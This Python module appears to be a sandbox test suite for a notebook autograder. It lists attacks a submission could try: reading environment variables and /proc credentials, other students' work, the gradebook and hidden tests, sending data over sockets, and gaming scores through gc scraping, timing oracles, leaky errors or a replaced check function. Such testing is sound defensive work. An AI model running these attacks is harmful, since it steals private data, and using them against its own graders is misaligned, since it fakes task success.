"""What a submission could read, and carry out. A secret is planted at every place; only secrets are ever shown."""

from . import Attack

KIND = "Leaks"

RECORDS = """
asked = []
def output_size(size, kernel_size, strides=1, padding='valid'):
    asked.append((size, kernel_size, strides, padding))
    return -(-size // strides) if padding == 'same' else (size - kernel_size) // strides + 1
# Said in the words that are looked for, which this source does not hold, once there is something hidden to tell.
def told():
    hidden = (6, 6, 1, 'valid') in asked
    return f'SECRET-OF-THE-{"INSTRUCTOR"} {asked[-10:]}' if hidden else 'nothing yet'
"""
"""A right function that keeps what it is asked by its hidden check."""

ATTACKS = [
    Attack(
        "home-file",
        "reads a file in the instructor's home folder",
        "files on disk",
        "leak",
        cell="show(open(f'{HOME}/secret.txt').read())",
    ),
    Attack(
        "neighbour",
        "reads another student's submission, by path and by walking up",
        "other students",
        "leak",
        cell="""
import pathlib
for root in (COURSE, '../../..'):
    for file in pathlib.Path(root).glob('*/ada/1-padding/*.ipynb'):
        show(file.read_text()[-2000:])
""",
    ),
    Attack(
        "gradebook-read",
        "reads addresses from the gradebook",
        "gradebook",
        "leak",
        cell="import sqlite3\nshow(sqlite3.connect(f'{COURSE}/gradebook.db').execute('select * from student').fetchall())",
    ),
    Attack("environment", "reads the environment", "environment", "leak", cell="import os\nshow(os.environ)"),
    Attack(
        "arguments",
        "reads the arguments of the process that started the kernel",
        "arguments, /proc",
        "leak",
        cell="import os\nshow(open(f'/proc/{os.getppid()}/cmdline').read())",
    ),
    Attack(
        "proc-environ",
        "reads the environment of its parent through /proc",
        "/proc",
        "leak",
        cell="import os\nshow(open(f'/proc/{os.getppid()}/environ').read())",
    ),
    Attack(
        "mountinfo",
        "looks for another student's folder in what is mounted where",
        "/proc, other students",
        "stock mounts nothing",
        # Said in the words that are looked for, which this source does not hold.
        cell="""
for name in ('mountinfo', 'mounts', 'cgroup', 'maps', 'environ', 'cmdline'):
    said = open(f'/proc/self/{name}').read()
    show(said, 'SECRET-OF-THE-' + 'INSTRUCTOR' if 'ada/' in said or 'zoe/' in said else '')
""",
    ),
    Attack(
        "hidden-tests",
        "reads the hidden tests' module, from disk or from linecache",
        "files on disk, linecache",
        "leak",
        cell="""
import inspect, linecache, autograde_tests
show(inspect.getsource(autograde_tests))
folder = autograde_tests.__file__.rpartition('/')[0]
show(''.join(linecache.getlines(f'{folder}/padding.py')))
""",
    ),
    Attack(
        "gc",
        "finds expected values among all objects of the process while being called",
        "gc",
        "points",
        functions={
            "pad2d": """
import gc
def pad2d(images, kernel_size, strides=(1, 1), padding='same'):
    for answers in gc.get_objects():
        if type(answers) is list and len(answers) == 10 and answers[7] is None:
            for answer in answers:
                # The images are somewhere in the right answer, which is no larger than it has to be.
                if getattr(answer, 'ndim', 0) == 4 and set(images.flat) == set(answer.flat) - {0}:
                    if padding == 'valid' or answer.shape != images.shape:
                        return answer
"""
        },
    ),
    Attack(
        "network",
        "calls a server",
        "network",
        "effect",
        cell="import socket\nsocket.create_connection(('127.0.0.1', PORT), 2).sendall(ME.encode())",
    ),
    Attack(
        "abstract-socket",
        "calls a listener on an abstract Unix socket, which has no file that could be hidden",
        "network",
        "effect",
        cell="import socket\ns = socket.socket(socket.AF_UNIX)\ns.settimeout(2)\ns.connect(f'\\0{TOKEN}')\ns.sendall(ME.encode())",
    ),
    Attack(
        "dns",
        "puts what it knows into the question of a DNS packet",
        "DNS",
        "effect",
        cell="import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(ME.encode(), ('127.0.0.1', PORT))",
    ),
    Attack(
        "records-inputs",
        "hidden inputs are recorded and carried out to a file for those who are graded later",
        "inputs recorded",
        "effect",
        functions={
            "pad2d": "def pad2d(images, *rest, **more):\n    open(f'{LOOT}/{ME}', 'a').write(repr((images, rest, more)))\n"
            "    raise NotImplementedError"
        },
        cell="# LOOT ME",
    ),
    Attack(
        "earlier-output",
        "while being called, writes what it is asked into what an earlier cell has shown",
        "inputs recorded",
        "leak",
        # Said in the words that are looked for, which this source does not hold.
        functions={
            "pad2d": """
spy = display('nothing yet', display_id='spy')
def pad2d(images, *rest, **more):
    spy.update({'text/plain': f'SECRET-OF-THE-{"INSTRUCTOR"} {images!r}'}, raw=True)
    raise NotImplementedError
"""
        },
    ),
    Attack(
        "error-oracle",
        "the hidden check is told in the text of an exception",
        "error messages as oracle",
        "leak",
        functions={
            "pad2d": """
import inspect, sys
def pad2d(*inputs, **more):
    frame = sys._getframe()
    while frame and 'steps' not in frame.f_locals:
        frame = frame.f_back
    raise ValueError(inspect.getsource(frame.f_locals['steps'].gi_code)[:100])
"""
        },
    ),
    Attack(
        "timing-oracle",
        "asks the check again and again, and learns from what it says and how long it takes",
        "timing as oracle",
        "points",
        functions={
            "output_size": """
from autograde_tests import check
known, asked = {}, []
def output_size(*case, **more):
    case += tuple(more.values())
    asked.append(case)
    return known.get(case, -1)
score = lambda: check('output_size', output_size, points=100).score
best = score()
for case in list(dict.fromkeys(asked)):
    for known[case] in range(1, 45):
        if score() > best:
            best = score()
            break
"""
        },
        honest=0,
    ),
    Attack(
        "lent-oracle",
        "has its own answers computed by whoever lends right functions",
        "lent functions as oracle",
        "points",
        functions={
            "padding_amounts": """
import sys
def borrowed(name, *args):
    try:
        from autograde_tests.lending import right_function
        return right_function(name)(*args)
    except ImportError:
        from convblocks.transfer import pack, unpack
    frame = sys._getframe()
    while 'ask' not in frame.f_locals:
        frame = frame.f_back
    return unpack(frame.f_locals['ask'](pack({'name': name, 'args': args, 'kwargs': {}})))['value']
def padding_amounts(size, kernel_size, strides=1):
    return borrowed('padding_amounts', size, kernel_size, strides)
""",
            # Asked for while its check borrows padding_amounts, which is not right.
            "pad2d": """
def pad2d(images, kernel_size, strides=(1, 1), padding='same'):
    return borrowed('pad2d', images, kernel_size, strides, padding)
""",
        },
    ),
    Attack(
        "told-by-the-next",
        "what one check asked is told in the errors of the next function, in cases that may be shown",
        "inputs recorded, error messages as oracle",
        "leak",
        functions={
            "output_size": RECORDS,
            "padding_amounts": "def padding_amounts(*case):\n    raise ValueError(told())",
        },
    ),
    Attack(
        "told-by-itself",
        "what hidden cases asked is told in the error of a later case that may be shown",
        "inputs recorded, error messages as oracle",
        "leak",
        functions={
            "output_size": f"""{RECORDS}
right = output_size
def output_size(*case):
    if case == (10, 2, 3, 'same'):
        raise ValueError(told())
    return right(*case)
"""
        },
        honest=3.67,
    ),
    Attack(
        "told-by-a-number",
        "what hidden cases asked is told in the numbers that a figure shows of an answer",
        "inputs recorded",
        "a planted secret has no digits",
        functions={
            "output_size": RECORDS,
            "padding_amounts": "def padding_amounts(*case):\n    return (4711, 4711) if 'SECRET' in told() else (1, 7)",
        },
    ),
    Attack(
        "told-by-the-lent",
        "asks right functions that are lent for what another check asked, and tells the answers in an error",
        "lent functions as oracle, error messages as oracle",
        "leak",
        functions={
            "padding_amounts": "asked = []\ndef padding_amounts(*case):\n    asked.append(case)\n    return 7, 7",
            "pad2d": """
def pad2d(images, kernel_size, strides=(1, 1), padding='same'):
    two = lambda value: (value, value) if isinstance(value, int) else value
    if two(kernel_size) == (3, 1) and (6, 1) in asked:
        raise ValueError(f'SECRET-OF-THE-{"INSTRUCTOR"} {[padding_amounts(*case) for case in asked[:10]]}')
    around = [padding_amounts(*case) for case in zip(images.shape[1:3], two(kernel_size), two(strides))]
    return images if padding == 'valid' else np.pad(images, ((0, 0), *around, (0, 0)))
""",
        },
        honest=7.67,
    ),
    Attack(
        "told-by-the-stub",
        "what one check asked is told in an error of the stub that calls the next one",
        "inputs recorded, tampered stub",
        "leak",
        functions={"output_size": RECORDS},
        cell="""
import autograde_tests
def stub(*given, **more):
    raise ValueError(told())
autograde_tests.check = stub
""",
    ),
]
